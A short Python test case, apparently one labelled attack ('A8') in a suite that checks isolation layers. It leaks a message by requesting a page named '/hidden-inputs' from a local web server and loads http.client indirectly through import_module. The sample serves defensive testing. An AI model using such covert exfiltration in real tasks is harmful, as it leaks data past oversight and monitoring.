# A8: asks a web server for a page whose name is the message
# Without layers: succeeds
from importlib import import_module


def attack(facts):
    web = import_module("http.client")
    web.HTTPConnection("127.0.0.1", facts["tcp_port"], timeout=1).request("GET", "/hidden-inputs")
    return True
